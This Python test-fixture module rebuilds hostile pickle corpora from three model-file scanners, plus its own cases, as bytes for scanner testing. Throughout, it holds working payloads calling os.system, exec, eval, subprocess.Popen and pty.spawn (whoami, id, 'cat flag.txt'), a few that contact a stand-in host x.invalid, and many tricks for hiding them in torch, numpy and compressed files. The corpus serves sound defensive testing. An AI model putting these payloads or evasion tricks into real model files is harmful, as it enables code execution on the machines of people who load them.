"""Hostile files: the published test corpora of three scanners, rebuilt by their recipes, and ours.

Sources: mmaitre314/picklescan (tests/init_data_files.py), trailofbits/fickling
(test/test_bypasses.py, test_crashes.py, test_scanner_deactivation_analysis.py,
test_expansion_attack_analysis.py, test_polyglot.py, test_scan_api.py), protectai/modelscan
(tests/test_modelscan.py, tests/test_utils.py). A case is the bytes of a file; nothing runs them.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import marshal
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np

PROTO = b"\x80\x04"


def text(value: str) -> bytes:
    return pickle.SHORT_BINUNICODE + bytes([len(value.encode())]) + value.encode()


def name(module: str, qualified: str) -> bytes:
    return text(module) + text(qualified) + pickle.STACK_GLOBAL


def inner(value: Any) -> bytes:
    """Return the instructions that build a plain value."""
    return pickle.dumps(value, 3)[2:-1]


def reduce(module: str, qualified: str, *args: Any) -> bytes:
    """Return the instructions of a call."""
    return name(module, qualified) + inner(args) + pickle.REDUCE


def program(*parts: bytes) -> bytes:
    return PROTO + b"".join(parts) + pickle.STOP


def evil(*args: Any) -> bytes:
    return program(reduce("os", "system", *(args or ("echo pwned",))))


def zipped(files: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as file:
        for member, data in files.items():
            file.writestr(member, data)
    return buffer.getvalue()


def tarred(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as file:
        for member, data in files.items():
            info = tarfile.TarInfo(member)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def array(data: bytes, descr: str = "|O") -> bytes:
    """Return a `.npy` file with a pickle behind its header."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': (1,), }}".ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + data


def legacy(last: bytes, *, magic: bytes = b"") -> bytes:
    """Return a file in torch's format before 1.6 whose fifth pickle is `last`."""
    number = magic or pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    empty = pickle.dumps({}, 2)
    return number + pickle.dumps(1001, 2) + empty + pickle.dumps([], 2) + last


PAYLOAD = "__import__('os').system('whoami')"


def _single_calls(source: str, argument: str) -> Iterator[tuple[str, str, bytes]]:
    """Yield the files of a corpus that are one call, as `calls.txt` lists them."""
    for line in Path(__file__).with_name("calls.txt").read_text().splitlines():
        if line.startswith(f"{source} "):
            _, module, qualified, case = line.split(maxsplit=3)
            yield case, "x.pkl", program(reduce(module, qualified, argument))


_GETS = b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR."


def of_picklescan() -> Iterator[tuple[str, str, bytes]]:
    yield from _single_calls("picklescan", PAYLOAD)
    call = program(reduce("builtins", "eval", "print('456')"))
    data = (
        b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'x=1'\nS''\nS'exec'\ntRp101\n0"
        b"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\n"
        b"S'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'x'\nltRp104\n0g104\n."
    )
    yield "malicious0 (apply, compile, getattr)", "x.pkl", data
    yield "malicious1_v0", "x.pkl", b"c__builtin__\neval\np0\n(Vprint('456')\np1\ntp2\nRp3\n."
    yield "malicious3 (httplib)", "x.pkl", b"chttplib\nHTTPSConnection\n(Vgithub.com\ntR."
    data = pickle.dumps(["a", "b", "c"]) + program(
        reduce("requests.api", "get", "https://x.invalid")
    )
    yield "malicious6 (second pickle)", "x.pickle", data
    yield "malicious10 (INST)", "x.pkl", b"(S'raise RuntimeError'\ni__builtin__\nexec\n."
    yield "malicious11 (memo)", "x.pkl", _GETS
    yield "malicious-invalid-bytes", "x.pkl", _GETS + b"\n\n\t\t"
    data = program(
        reduce("operator", "attrgetter", "system"),
        reduce("builtins", "__import__", "os"),
        b"\x85R",
        inner(("echo pwned",)),
        b"R",
    )
    yield "malicious12 (attrgetter)", "x.pkl", data
    data = program(
        name("functools", "partial"), name("torch.serialization", "load"), b"\x85R", b")R"
    )
    yield "malicious19 (partial of torch.load)", "x.pkl", data
    yield "malicious23 (STRING)", "x.pkl", b"S'os'\nS'system'\n\x93S'ls'\n\x85R."
    data = program(
        reduce("operator", "methodcaller", "system", "id"),
        reduce("pydoc", "locate", "os"),
        b"\x85R",
    )
    yield "GHSA-84r2-jw7c-4r5q (methodcaller, locate)", "x.pkl", data
    data = (
        b"cbuiltins\n__import__\n(Vos\ntRp0\n0c_operator\nmethodcaller\n(Vsystem\nVid\ntR(g0\ntR."
    )
    yield "GHSA-955r-x9j8-7rhh (_operator)", "x.pkl", data
    data = b"c_operator\nattrgetter\n(Vsystem\ntR(cbuiltins\n__import__\n(Vos\ntRtR(Vid\ntR."
    yield "GHSA-46h3-79wf-xr6c (_operator)", "x.pkl", data
    data = program(reduce("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "whoami"))
    yield "GHSA-jgw4-cr84-mqxg (.bin)", "x.bin", data
    call = b'cos\nsystem\nVecho "pwned"\n\x85R0'
    yield "keyerror-exploit", "x.pkl", program(call, text("os"), b"\x94h\x03h\x00\x93K\x42")
    data = program(call, b"J\x2a\0\0\0\x94", text("os"), b"\x94h\x00h\x01\x93K\x42")
    yield "type-confusion-exploit", "x.pkl", data
    yield "broken_model", "x.pkl", b"cbuiltins\nexec\n(X>\nf = open('x', 'a')tRX."
    yield "types_CodeType", "x.pkl", program(reduce("types", "CodeType", 0, 0, 0, b"", ()))
    data = program(
        reduce("cloudpickle.cloudpickle", "_make_function", None),
        name("cloudpickle.cloudpickle", "_function_setstate"),
        b"}b",
    )
    yield "cloudpickle_codeinjection", "x.pkl", data
    data = b"csys\nmodules\n}(Vsys\ncos\n__dict__\nub0csys\nsystem\n(Vid\ntR."
    yield "sys_module_override", "x.pkl", data
    data = legacy(evil() + pickle.dumps(None), magic=b"\x80\x02c__builtin__\neval\nU\x041+41\x85R.")
    yield "pytorch_magic_bypass", "x.pt", data
    yield "malicious1.zip", "x.zip", zipped({"data.pkl": call})
    yield "malicious1_wrong_ext.zip", "x.zip", zipped({"data.txt": call})
    data = zipped({"data.pkl": call}).replace(b"data.pkl", b"datap.kl", 1)
    yield "malicious1_central_directory.zip", "x.zip", data
    yield "malicious1_crc.zip", "x.zip", zipped({"data.pkl": call}).replace(b"456", b"123", 1)
    for bit in (0x1, 0x20, 0x40):
        raw = bytearray(zipped({"model/config.pkl": call}))
        raw[6] |= bit
        raw[raw.index(b"PK\x01\x02") + 8] |= bit
        yield f"malicious1_0x{bit:x}.zip", "x.zip", bytes(raw)
    yield "malicious1.7z", "x.7z", b"7z\xbc\xaf\x27\x1c\0\4" + call
    data = array(program(reduce("ssl", "get_server_certificate", ("x.invalid", 443))))
    yield "dns_exfiltration.npy", "x.npy", data
    yield "bad_pytorch.pt (a picture)", "x.pt", b"\211PNG\r\n\032\n"


def of_fickling() -> Iterator[tuple[str, str, bytes]]:
    yield "GHSA-r7v6 pty, BUILD", "x.pkl", program(reduce("pty", "spawn", "id"), text("x"), b"b")
    yield "PR 108 OBJ", "x.pkl", b"(cpty\nspawn\nS'id'\no."
    code = marshal.dumps(compile("0", "x", "exec"))
    data = program(
        reduce("marshal", "loads", code), b"\x94", name("types", "FunctionType"), b"h\x00}\x86R)R"
    )
    yield "GHSA-565g marshal, types", "x.pkl", data
    yield from _single_calls("fickling", "x")
    yield "GHSA-5j3x dotted name", "x.pkl", program(name("pathlib", "os.system"), b")R")
    yield "GHSA-cffv ast.parse, no call", "x.pkl", program(name("ast", "parse"))
    data = program(b"(", name("smtplib", "SMTP"), text("127.0.0.1"), b"o0N")
    yield "GHSA-mxhj OBJ, POP", "x.pkl", data
    data = (
        b"cbuiltins\n__import__\nS'os'\n\x85Rp0\n0cbuiltins\ngetattr\ng0\nS'system'\n\x86Rp1\n0g1\n"
        b"S'whoami'\n\x85R."
    )
    yield "GHSA-h4rm builtins.__import__", "x.pkl", data
    for module, attribute, loader in (
        ("ctypes", "CDLL", "libc.dylib"), ("importlib", "import_module", "os"),
    ):  # fmt: skip
        data = program(
            name("builtins", "getattr"),
            reduce(module, attribute, loader),
            text("system"),
            b"\x86R",
            inner(("id",)),
            b"R",
        )
        yield f"GHSA-q5qq getattr of {module}", "x.pkl", data
    hidden = (b"cos\nsystem\nVecho pwned\n\x85R" + b"(").ljust(261, b"N")
    data = (
        b"\x80\x05NV"
        + b"a" * (8192 * 16 - 17)
        + b"\n0(\x95"
        + struct.pack("<Q", 2)
        + b"B\x07\x01\0\0\0\0"
        + hidden
        + b"1."
    )
    yield "frame boundary", "x.pkl", data
    data = b"\x80\x05\x95" + struct.pack("<Q", 12) + b"N\x95" + struct.pack("<Q", 2) + b"N."
    yield "frame within a frame", "x.pkl", data
    yield "issue 188 TUPLE without MARK", "x.pkl", PROTO + b"t."
    alphabet = "Jw~[v5QpA(BYosystem"
    data = program(
        reduce("operator", "itemgetter", 12, 13),
        inner((alphabet,)),
        b"R\x94",
        reduce("builtins", "getattr", "", "join"),
        b"h\x00\x85R",
        text("system"),
        b"\x93",
    )
    yield "issue 125 a name built from parts", "x.pkl", data
    data = program(
        b"(",
        name("numpy", "poly1d"),
        b"\x94",
        name("builtins", "eval"),
        b"1h\x00",
        inner(("x",)),
        b"R",
    )
    yield "mindspore 183 POP_MARK", "x.pkl", data
    data = zipped({"data.pkl": evil()}).replace(b"pwned", b"PWNED", 1)
    yield "zip with a bad CRC", "x.zip", data
    yield "numpy in tar", "x.anything", tarred({"pickle.npy": array(evil())})
    yield "numpy in zip", "x.anything", zipped({"pickle.npy": array(evil())})
    yield "numpy in 7z", "x.anything", b"7z\xbc\xaf\x27\x1c\0\4" + array(evil())
    yield "injected torch file", "x.pth", zipped({"x/data.pkl": evil(), "x/version": b"3\n"})


def of_modelscan() -> Iterator[tuple[str, str, bytes]]:
    yield "malicious12 (nested pickle)", "x.pkl", program(reduce("pickle", "loads", evil()), b"0N")
    data = b"\x80\x05cbuiltins\neval.__call__\nVprint(1)\n\x85R."
    yield "malicious13 (eval.__call__)", "x.pkl", data
    for module, qualified in (
        ("os", "system"), ("builtins", "exec"), ("builtins", "eval"), ("runpy", "_run_code")
    ):  # fmt: skip
        data = program(reduce(module, qualified, "x"), inner({"weight": 1}))
        yield f"PickleInject {module}.{qualified}", "x.dill", data
    data = zipped({"archive/data.pkl": b"\x80\x02cposix\nsystem\nq\0X\x01\0\0\0xq\x01\x85q\x02R}."})
    yield "unsafe_zip_pytorch", "x.pt", data
    yield "unsafe old format", "x.pt", legacy(b"\x80\x02cposix\nsystem\nX\x02\0\0\0id\x85R}.")
    layers = b'{"class_name": "Functional", "layers": [{"class_name": "Lambda", "config": {}}]}'
    data = zipped({"metadata.json": b"{}", "config.json": layers}, zipfile.ZIP_DEFLATED)
    yield "test_scan_keras .keras", "x.keras", data
    yield "test_scan_keras .h5", "x.h5", b"\x89HDF\r\n\x1a\n" + bytes(90) + b"model_config" + layers
    yield "test_scan_keras .pb", "keras_metadata.pb", b"\n\x05" + layers
    yield "test_scan_tensorflow", "saved_model.pb", b"\n\x01x\x12\x09WriteFile\x1a\x01a"
    yield "password_protected.zip", "x.zip", bytes(_locked(zipped({"test.txt": b"\x8f" * 20})))


def _locked(raw: bytes) -> bytearray:
    locked = bytearray(raw)
    locked[6] |= 1
    locked[raw.index(b"PK\x01\x02") + 8] |= 1
    return locked


def of_ours() -> Iterator[tuple[str, str, bytes]]:
    """Yield the tricks that issue 20 lists, and each instruction that names or calls something."""
    system = name("os", "system")
    state = zipped({"x/data.pkl": b"\x80\x02}.", "x/version": b"3\n"})
    yield "dotted name of protocol 4", "x.bin", program(reduce("torch", "os.system", "id"))
    yield "dotted name below an allowed one", "x.bin", program(reduce("torch", "Size.x", "id"))
    yield "prefix of an allowed module", "x.bin", program(reduce("torch.hub", "load", "x"))
    yield "popped call", "x.bin", program(reduce("os", "system", "id"), b"0N")
    yield "popped mark", "x.bin", program(b"(", reduce("os", "system", "id"), b"1N")
    yield "NEWOBJ", "x.bin", program(name("subprocess", "Popen"), inner(("id",)), b"\x81")
    yield "NEWOBJ_EX", "x.bin", program(name("subprocess", "Popen"), inner(("id",)), b"}\x92")
    data = program(
        name("torch", "Tensor"), b"N}", text("__reduce__"), name("torch", "device"), b"s\x86b"
    )
    yield "BUILD of a class", "x.bin", data
    data = program(name("idlelib.x", "Y"), b")\x81}", text("a"), b"K\x01sb")
    yield "BUILD with __setstate__", "x.bin", data
    yield "APPEND to an object", "x.bin", program(name("sys", "path"), text("/tmp"), b"a")
    yield "SETITEM of an object", "x.bin", program(name("os", "environ"), text("A") * 2, b"s")
    yield "APPEND to an allowed class", "x.bin", program(name("collections", "deque"), b"Na")
    data = program(
        text("os"), b"q\x05", text("system"), b"q\x06", b"00h\x05h\x06\x93", inner(("id",)), b"R"
    )
    yield "memo: BINPUT, BINGET", "x.bin", data
    data = program(
        b"Nq\x07", text("os"), b"\x94", text("system"), b"\x94h\x01h\x02\x93", inner(("id",)), b"R"
    )
    yield "memo: MEMOIZE after gaps", "x.bin", data
    data = program(
        text("torch"), b"q\x00", text("os"), b"q\x00", text("system"), b"q\x01h\x00h\x01\x93)R"
    )
    yield "memo overwritten", "x.bin", data
    yield "DUP", "x.bin", program(system, b"2", inner(("id",)), b"R0")
    data = program(reduce("_codecs", "encode", "os"), text("system"), b"\x93)R")
    yield "a name that a call returns", "x.bin", data
    for code, size in ((b"\x82", 1), (b"\x83", 2), (b"\x84", 4)):
        yield f"EXT{size}", "x.bin", program(code + (7).to_bytes(size, "little"), b")R")
    yield "PERSID", "x.pkl", b"Pid\n0cos\nsystem\n(S'id'\ntR."
    data = legacy(b"\x80\x02(U\x06modulecevil\nNet\nU\x01aU\x01btQ.")
    yield "BINPERSID of a module", "x.pt", data
    yield "nested in bytes", "x.bin", program(inner({"a": evil()}))
    yield "nested in bytes of protocol 2", "x.bin", pickle.dumps({"a": evil()}, 2)
    yield "nested in a bytearray", "x.bin", pickle.dumps({"a": bytearray(evil())}, 5)
    yield "second pickle", "x.bin", pickle.dumps({"a": 1}) + evil()
    yield "fifth pickle of the old format", "x.bin", legacy(evil())
    yield "truncated after the call", "x.bin", evil()[:-1]
    yield "truncated in a name", "x.pkl", evil()[:8]
    yield "a number with a zero byte", "x.pkl", b"I1\0x\n0L0x1z\nF1.5\n" + evil()
    yield "text that is not UTF-8", "x.pkl", program(b"\x8c\x03\xed\xa0\x80", b"0") + evil()
    yield "protocol 4 in protocol 0's clothes", "x.txt", evil()[2:]
    for case, before in (
        ("a frame boundary without a protocol", b"N\x95" + struct.pack("<Q", 2) + b"B\x40\0\0\0"),
        ("long dotted name", b"ccollections\n" + b"a." * 3000 + b"b\n"),
    ):  # fmt: skip
        yield case, "x.txt", before + b"cos\nsystem\n(S'id'\ntR.".ljust(64, b"N") + b"."
    yield "config.json", "config.bak", b"(cos\nsystem\nS'id'\no."
    yield ".npy", "x.npy", array(evil())
    yield ".npy that says int64", "x.npy", array(evil(), "<i8")
    yield ".npz", "x.npz", zipped({"a.npy": array(evil())}, zipfile.ZIP_DEFLATED)
    yield ".metadata", ".metadata", evil()
    yield ".distcp", "__0_0.distcp", state + zipped({"y/data.pkl": evil()})
    yield "no suffix", "weights", evil()
    yield "safetensors by name", "model.safetensors", evil()
    yield "several .pkl in a zip", "x.pt", zipped({"x/data.pkl": b"\x80\x02}.", "x/b.pkl": evil()})
    data = zipped({"x/data.pkl": b"\x80\x02}.", "x/z": evil()})
    yield "data.pkl under another name", "x.pt", data
    data = zipped({"x/data.pkl": b"\x80\x02}.", "x/data/0": evil()})
    yield "a storage that is a pickle", "x.pt", data
    yield "zip in a zip", "x.pt", zipped({"x/a": zipped({"y": evil()})}, zipfile.ZIP_DEFLATED)
    yield "zip in a stored zip", "x.pt", zipped({"x/a": zipped({"y": evil()})})
    yield "zip behind other data", "x.pt", b"#!/bin/sh\n" * 9 + zipped({"x/data.pkl": evil()})
    yield "pickle before a zip", "x.pt", evil() + state
    yield "zip without a directory", "x.pt", zipped({"x/data.pkl": evil()})[:-60]
    yield "tar", "x.tar", tarred({"pickle": evil(), "storages": b"", "tensors": b""})
    yield "unknown method in a zip", "x.zip", zipped({"x": evil() * 9}, zipfile.ZIP_BZIP2)
    yield "gzip", "x.pkl.gz", gzip.compress(evil())
    yield "gzip, second member", "x.gz", gzip.compress(b"") + gzip.compress(evil())
    yield "bzip2", "x.bz2", bz2.compress(evil())
    yield "xz", "x.xz", lzma.compress(evil())
    yield "lzma", "x.lzma", lzma.compress(evil(), lzma.FORMAT_ALONE)
    yield "zlib (joblib)", "x.joblib", zlib.compress(evil())
    yield "zlib in gzip in xz", "x", lzma.compress(gzip.compress(zlib.compress(evil())))
    data = (
        program(
            name("joblib.numpy_pickle", "NumpyArrayWrapper"), b")\x81}", text("shape"), b"K\x01sb"
        )
        + np.arange(9.0).tobytes()
    )
    yield "joblib with an array", "x.joblib", data
    yield "zstd", "x.zst", b"\x28\xb5\x2f\xfd" + evil()
    yield "lz4", "x.lz4", b"\x04\x22\x4d\x18" + evil()


def cases() -> Iterator[tuple[str, str, str, bytes]]:
    """Yield (source, case, file name, bytes)."""
    for source, corpus in (
        ("picklescan", of_picklescan), ("fickling", of_fickling), ("modelscan", of_modelscan),
        ("ours", of_ours),
    ):  # fmt: skip
        for case, file, data in corpus():
            yield source, case, file, data
